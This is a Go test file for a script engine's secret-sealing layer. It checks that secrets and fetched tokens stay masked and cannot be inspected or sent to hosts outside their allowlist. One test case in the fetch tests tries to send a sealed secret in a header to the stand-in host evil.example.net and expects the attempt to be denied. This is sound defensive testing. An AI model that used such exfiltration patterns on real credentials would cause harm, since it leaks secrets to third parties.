package script

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/reticent/reticent/secretstore/egress"
	"github.com/reticent/reticent/secretstore/seal"
	"github.com/reticent/reticent/secretstore/seal/sealtest"
)

// bodies runs the bodies of handlers and compares what they return.
func bodies(t *testing.T, e *Engine, secrets map[string]any, cases [][2]string) {
	t.Helper()
	for _, tc := range cases {
		body := tc[0]
		if len(secrets) > 0 {
			body = "const S = context.secrets.API_KEY, PIN = context.secrets.PIN; " + body
		}
		got := run(t, e, sealRun(t, secrets), body, "{}")
		if got.Error != nil || asJSON(t, got.Output) != tc[1] {
			t.Errorf("%s: %s %v, want %s", tc[0], asJSON(t, got.Output), got.Error, tc[1])
		}
	}
}

// refusals runs what looks at a secret and must not get to its end.
func refusals(t *testing.T, e *Engine, looks []string) {
	t.Helper()
	for _, look := range looks {
		body := "const S = context.secrets.API_KEY, PIN = context.secrets.PIN; try { " + look + "; return 'looked' } catch (e) { return e.code || e.name }"
		got := run(t, e, sealRun(t, secretsOfTests), body, "{}")
		if s := asJSON(t, got.Output); got.Error != nil || s != `"`+string(seal.CodeInspected)+`"` {
			t.Errorf("%s: %s %v", look, s, got.Error)
		}
	}
}

// TestEvents runs EventTarget, AbortController and DOMException.
func TestEvents(t *testing.T) {
	bodies(t, engine(t, Config{InProcess: true}), nil, [][2]string{
		{"const t = new EventTarget(), out = []; const f = e => out.push(e.type, e.target === t, e.currentTarget === t); t.addEventListener('a', f); t.addEventListener('a', f); t.addEventListener('a', () => out.push('once'), {once: true}); t.addEventListener('a', {handleEvent(e) { out.push('object') }}); t.dispatchEvent(new Event('a')); t.removeEventListener('a', f); t.dispatchEvent(new Event('a')); return out",
			`["a",true,true,"once","object","object"]`},
		{"const t = new EventTarget(); t.addEventListener('x', e => e.preventDefault()); return [t.dispatchEvent(new Event('x', {cancelable: true})), t.dispatchEvent(new Event('x')), new CustomEvent('c', {detail: 1}).detail]", `[false,true,1]`},
		{"const t = new EventTarget(), out = []; t.addEventListener('x', e => { out.push(1); e.stopImmediatePropagation() }); t.addEventListener('x', () => out.push(2)); t.dispatchEvent(new Event('x')); return out", `[1]`},
		{"class Door extends EventTarget { open() { this.dispatchEvent(new Event('open')) } } const d = new Door(); let n = 0; d.onopen = () => n++; d.open(); return n", `1`},
		{"const e = new DOMException('m', 'AbortError'); return [e.name, e.message, e.code, e instanceof Error, e instanceof DOMException, String(e)]", `["AbortError","m",20,true,true,"AbortError: m"]`},
		{"const c = new AbortController(), out = []; c.signal.addEventListener('abort', () => out.push('listener')); c.signal.onabort = () => out.push('handler'); c.abort(); c.abort('again'); return [c.signal.aborted, c.signal.reason.name, out, c.signal instanceof AbortSignal]", `[true,"AbortError",["handler","listener"],true]`},
		{"const c = new AbortController(); c.abort('why'); try { c.signal.throwIfAborted() } catch (e) { return e }", `"why"`},
		{"const c = new AbortController(), any = AbortSignal.any([new AbortController().signal, c.signal]); c.abort(1); return [any.aborted, any.reason, AbortSignal.any([AbortSignal.abort(2)]).reason]", `[true,1,2]`},
		{"const s = AbortSignal.timeout(5); await new Promise(r => s.addEventListener('abort', r)); return [s.reason.name, s.reason.code]", `["TimeoutError",23]`},
		{"try { new AbortSignal() } catch (e) { return e.name }", `"TypeError"`},
		{"const c = new AbortController(), t = new EventTarget(); let n = 0; t.addEventListener('a', () => n++, {signal: c.signal}); t.dispatchEvent(new Event('a')); c.abort(); t.dispatchEvent(new Event('a')); return n", `1`},
	})
	refusals(t, engine(t, Config{InProcess: true}), []string{"new Event(S)", "new EventTarget().addEventListener(S, () => 1)", "new DOMException('m', S)"})
}

// TestRequestAndResponse runs the classes without a request being sent.
func TestRequestAndResponse(t *testing.T) {
	e := engine(t, Config{InProcess: true})
	bodies(t, e, nil, [][2]string{
		{"const r = new Response('{\"a\":1}', {status: 201, statusText: 'Made', headers: {'X-A': 'b'}}); return [r.status, r.ok, r.statusText, r.type, r.url, r.redirected, r.headers.get('x-a'), r.headers.get('content-type'), await r.clone().json(), await r.text(), r.bodyUsed]",
			`[201,true,"Made","default","",false,"b","text/plain;charset=UTF-8",{"a":1},"{\"a\":1}",true]`},
		{"const r = Response.json({a: [1]}, {status: 400}); return [r.status, r.ok, r.headers.get('content-type'), await r.json()]", `[400,false,"application/json",{"a":[1]}]`},
		{"return [Response.error().type, Response.error().status, Response.redirect('https://a/', 307).headers.get('location'), new Response(null, {status: 204}).body]", `["error",0,"https://a/",null]`},
		{"const r = new Request('https://a/b', {method: 'patch', headers: {a: 'b'}, body: 'x', redirect: 'error'}); return [r.method, r.url, r.headers.get('A'), r.redirect, await r.clone().text(), r.bodyUsed, r.signal.aborted]", `["PATCH","https://a/b","b","error","x",false,false]`},
		{"const a = new Request('https://a/', {method: 'POST', body: 'x', headers: {q: '1'}}), b = new Request(a, {headers: {r: '2'}}); return [a.bodyUsed, b.method, b.headers.has('q'), b.headers.get('r'), await b.text()]", `[true,"POST",false,"2","x"]`},
		{"const r = new Response(new Uint8Array([104, 105, 0xff])); const b = new Uint8Array(await r.clone().arrayBuffer()); return [b.length, (await r.clone().bytes())[0], await r.clone().text(), r.headers.has('content-type')]", `[3,104,"hi�",false]`},
		{"const reader = new Response('chunk').body.getReader(); const a = await reader.read(), b = await reader.read(); return [Buffer.from(a.value).toString(), a.done, b.done, b.value === undefined]", `["chunk",false,true,true]`},
		{"let n = 0, sizes = []; for await (const c of new Response('x'.repeat(100000)).body) { n++; sizes.push(c.length) } return [n, sizes]", `[2,[65536,34464]]`},
		{"const r = new Response('x'); await r.text(); try { await r.text() } catch (e) { return e.name }", `"TypeError"`},
		{"try { new Request('https://a/', {body: 'x'}) } catch (e) { return e.name }", `"TypeError"`},
		{"return new Response(new URLSearchParams({a: 'b c'})).text()", `"a=b+c"`},
	})
	bodies(t, e, secretsOfTests, [][2]string{
		{"return (await new Response(S).text()) === S", `true`},
		{"return (await Response.json({a: S}).json()).a === 'sk_live_4242424242abcdef'", `true`},
		{"return (await new Response(JSON.stringify({a: context.secrets.ODD})).json()).a === context.secrets.ODD", `true`},
		{"return Buffer.from(await new Response(S).arrayBuffer()).equals(Buffer.from(S))", `true`},
		{"const {value} = await new Response(S).body.getReader().read(); return Buffer.from(value).toString() === S", `true`},
		{"return (await new Response(new Blobby()).text())\nfunction Blobby() { return Buffer.from(S) }", `"***"`},
	})
	refusals(t, e, []string{"new Request('https://a/', {method: S})", "new Request('https://a/', {seal: [S]})", "new Response('', {status: PIN})", "(await new Response(S).bytes()).length",
		"(await new Response(S).arrayBuffer()).byteLength", "new Uint8Array(await new Response(S).arrayBuffer())[0]", "new Request('https://a/', {redirect: S})",
		"(await new Response(S).body.getReader().read()).value[0]"})
}

// TestParsesSecretsThatAreJSON runs JSON.parse on secrets, in a worker too.
func TestParsesSecretsThatAreJSON(t *testing.T) {
	secrets := map[string]any{
		"ACCOUNT": `{"z": "reporter-of-the-year-2026", "a": {"key": "-----BEGIN x\n\"quoted\""}, "n": 3, "list": ["one-two-three-four-5", null]}`,
		"PIN":     "123456", "TEXT": `"text"`, "API_KEY": "sk_live_4242424242abcdef",
	}
	for _, e := range []*Engine{engine(t, Config{Workers: 1}), engine(t, Config{InProcess: true})} {
		bodies(t, e, secrets, [][2]string{
			{"const A = JSON.parse(context.secrets.ACCOUNT); return [Object.keys(A), A.n, A.list.length, A.list[1], A.z === 'reporter-of-the-year-2026', A.a.key === '-----BEGIN x\\n\"quoted\"', A.a.key]",
				`[["z","a","n","list"],3,2,null,true,true,"***"]`},
			{"return JSON.parse(context.secrets.ACCOUNT, (k, v) => k === 'n' ? 4 : v).n", `4`},
			{"const c = JSON.parse(JSON.stringify({a: [S, {b: 'x' + PIN}], c: 1})); return [c.a[0] === S, c.a[1].b === 'x123456', c.c]", `[true,true,1]`},
			{"return JSON.parse(JSON.stringify(S)) === S", `true`},
		})
	}
	refusals(t, engine(t, Config{InProcess: true}), []string{"JSON.parse(S)", "JSON.parse(PIN)", "JSON.parse('[' + S + ']')", "JSON.parse('\"' + S + '\"')", "JSON.parse('{\"a\":' + JSON.stringify(S) + '} x')",
		"JSON.parse('\"\\\\' + JSON.stringify(S).slice(1))", "JSON.parse('{\"' + JSON.stringify(S).slice(1) + ':1}')", "JSON.parse(JSON.stringify([S]), (k, v) => v)", "JSON.parse(btoa(S))"})
}

const fetched = "the-token-0f1e2d3c4b5a6978"

// TestFetchSeals runs fetch(url, {seal}): the token of an authorization server is
// used, compared, stored and masked, and never comes out.
func TestFetchSeals(t *testing.T) {
	var auth string
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/token":
			w.Header().Set("X-Token", fetched)
			_, _ = fmt.Fprintf(w, `{"access_token":%q,"expires_in":3600,"items":[{"key":"key-a-0123456789abcdef"},{"key":"key-b-0123456789abcdef"}]}`, fetched)
		case "/html":
			_, _ = fmt.Fprintf(w, `<p>%s</p>`, fetched)
		case "/echo":
			_, _ = fmt.Fprintf(w, `{"said":%q}`, r.Header.Get("X-Say"))
		default:
			if r.URL.RawQuery == "" {
				auth = r.Header.Get("Authorization")
			}
			_, _ = w.Write([]byte(`{}`))
		}
	}))
	t.Cleanup(s.Close)
	client, err := egress.New(egress.Config{AllowLoopback: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(client.Close)
	secrets := map[string]any{"API_KEY": sealtest.Secret{Value: "sk_live_4242424242abcdef", Hosts: []string{s.URL}}, "PIN": "123456"}
	for name, e := range map[string]*Engine{"worker": engine(t, Config{Workers: 1, Egress: client}), "in process": engine(t, Config{InProcess: true, Egress: client})} {
		for _, tc := range [][2]string{
			{"const j = await (await fetch(U + '/token', {seal: ['/access_token', '/items/*/key']})).json(); return [j, j.access_token === '" + fetched + "', typeof j.access_token, j.items[0].key === j.items[1].key]",
				`[{"access_token":"***","expires_in":3600,"items":[{"key":"***"},{"key":"***"}]},true,"string",false]`},
			{"const r = await fetch(U + '/token', {seal: ['/access_token']}); const {access_token: t} = await r.json(); await fetch(U + '/use', {headers: {Authorization: 'Bearer ' + t}}); return r.headers.get('x-token') === t", `true`},
			{"const r = await fetch(U + '/token', {seal: ['/access_token']}); return [(await r.text()).includes('0f1e'), await r.clone]", `"sealed_secret_inspected"`},
			{"const {access_token: t} = await (await fetch(U + '/token', {seal: [{pointer: '/access_token', allowed_hosts: ['api.example.org']}]})).json(); await fetch(U + '/use', {headers: {Authorization: t}}); return 1", `"egress_denied"`},
			{"const {access_token: t} = await (await fetch(U + '/token', {seal: [{pointer: '/access_token', allowed_hosts: []}]})).json(); await fetch(U + '/use', {headers: {Authorization: t}}); return 1", `"egress_denied"`},
			{"const {access_token: t} = await (await fetch(U + '/token', {seal: ['/access_token']})).json(); await fetch(U + '/use?t=' + t); return 1", `"egress_denied"`},
			{"const {access_token: t} = await (await fetch(U + '/token', {seal: [{pointer: '/access_token', allowed_in: ['query']}]})).json(); return (await fetch(U + '/use?t=' + encodeURIComponent(t))).status", `200`},
			{"await fetch(U + '/html', {seal: ['/access_token']}); return 1", `"egress_failed"`},
			{"await fetch(U + '/token', {seal: ['/expires_in']}); return 1", `"egress_failed"`},
			{"await fetch(U + '/token', {seal: ['access_token']}); return 1", `"egress_denied"`},
			{"await fetch(U + '/token', {seal: [{pointer: '/a', allowed_hosts: ['*.com']}]}); return 1", `"egress_denied"`},
			{"await fetch(U + '/token', {seal: [{pointer: '/a', hosts: []}]}); return 1", `"TypeError"`},
			{"await fetch(U + '/token', {seal: '/access_token'}); return 1", `"TypeError"`},
			{"const {said} = await (await fetch(U + '/echo', {headers: {'X-Say': S}, seal: [{pointer: '/said', allowed_hosts: ['evil.example.net']}]})).json(); try { await fetch('https://evil.example.net/', {headers: {'X-Say': said}}) } catch (e) { return [e.code, said === S, said] }",
				`["egress_denied",true,"***"]`},
			{"const {access_token: t} = await (await fetch(U + '/token', {seal: ['/access_token']})).json(); console.log(t); throw new Error('with ' + t)", `"Error"`},
		} {
			body := "const U = '" + s.URL + "', S = context.secrets.API_KEY; try { return await (async () => { " + tc[0] + " })() } catch (e) { return e.code || e.name }"
			got := run(t, e, sealRun(t, secrets), body, "{}")
			if got.Error != nil || asJSON(t, got.Output) != tc[1] {
				t.Errorf("%s: %s: %s %v, want %s", name, tc[0], asJSON(t, got.Output), got.Error, tc[1])
			}
			got.Duration = 0 // which may have its digits
			if all := asJSON(t, got); strings.Contains(all, "0f1e2d3c4b5a6978") || strings.Contains(all, "4242") {
				t.Errorf("%s: %s: a secret came out: %s", name, tc[0], all)
			}
		}
	}
	if auth != "Bearer "+fetched {
		t.Errorf("the token was sent as %q", auth)
	}
}

// TestFetchOptions runs Request objects, signals, redirects and bodies of bytes.
func TestFetchOptions(t *testing.T) {
	entered, gone := make(chan struct{}, 9), make(chan struct{}, 9)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/slow":
			entered <- struct{}{}
			<-r.Context().Done()
			gone <- struct{}{}
		case "/redirect":
			http.Redirect(w, r, "/end", http.StatusFound)
		case "/binary":
			_, _ = w.Write([]byte{0xff, 0, 0xfe})
		case "/large":
			_, _ = w.Write(make([]byte, 3<<20))
		default:
			b := make([]byte, 100)
			n, _ := r.Body.Read(b)
			_, _ = fmt.Fprintf(w, "%s %x %s", r.Method, b[:n], r.Header.Get("Content-Type"))
		}
	}))
	t.Cleanup(s.Close)
	client, err := egress.New(egress.Config{AllowLoopback: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(client.Close)
	secrets := map[string]any{"API_KEY": sealtest.Secret{Value: "sk_live", Hosts: []string{s.URL}, In: []seal.Position{"body"}}, "PIN": "123456"}
	for name, e := range map[string]*Engine{"worker": engine(t, Config{Workers: 1, Egress: client}), "in process": engine(t, Config{InProcess: true, Egress: client})} {
		for _, tc := range [][2]string{
			{"return (await fetch(new Request(U, {method: 'POST', body: new Uint8Array([255, 0, 1])}))).text()", `"POST ff0001 "`},
			{"return (await fetch(U, {method: 'PUT', body: Buffer.concat([Buffer.from([255]), Buffer.from(S)])})).text()", `"PUT ff736b5f6c697665 "`},
			{"return (await fetch(U, {method: 'POST', body: 'é'})).text()", `"POST c3a9 text/plain;charset=UTF-8"`},
			{"const r = await fetch(U + '/binary'); return [Buffer.from(await r.clone().arrayBuffer()).toString('hex'), (await r.bytes()).length]", `["ff00fe",3]`},
			{"const r = await fetch(U + '/redirect'); return [r.status, r.redirected, r.url === U + '/end', r.type]", `[200,true,true,"basic"]`},
			{"const r = await fetch(U + '/redirect', {redirect: 'manual'}); return [r.status, r.redirected, r.headers.get('location')]", `[302,false,"/end"]`},
			{"await fetch(U + '/redirect', {redirect: 'error'})", `"egress_failed"`},
			{"await fetch(U + '/large')", `"egress_failed"`},
			{"const c = new AbortController(); const p = fetch(U + '/slow', {signal: c.signal}); setTimeout(() => c.abort(), 5); return await p", `20`},
			{"await fetch(U + '/slow', {signal: AbortSignal.timeout(5)})", `23`},
			{"await fetch(U + '/slow', {signal: AbortSignal.abort(new Error('stop'))})", `"Error"`},
			{"const c = new AbortController(); const p = fetch(U + '/slow', {signal: c.signal}).catch(e => e.name); setTimeout(() => c.abort(), 5); const [a, b] = await Promise.all([p, fetch(U)]); return [a, b.status, (await fetch(U)).status]", `["AbortError",200,200]`},
			{"await fetch(U, {signal: {aborted: false}})", `"TypeError"`},
		} {
			body := "const U = '" + s.URL + "', S = context.secrets.API_KEY; try { return await (async () => { " + tc[0] + " })() } catch (e) { return e.code || e.name }"
			got := run(t, e, sealRun(t, secrets), body, "{}")
			if got.Error != nil || asJSON(t, got.Output) != tc[1] {
				t.Errorf("%s: %s: %s %v, want %s", name, tc[0], asJSON(t, got.Output), got.Error, tc[1])
			}
			for len(entered) > 0 {
				<-entered
				<-gone // a request that was given up is not kept open
			}
		}
	}
}
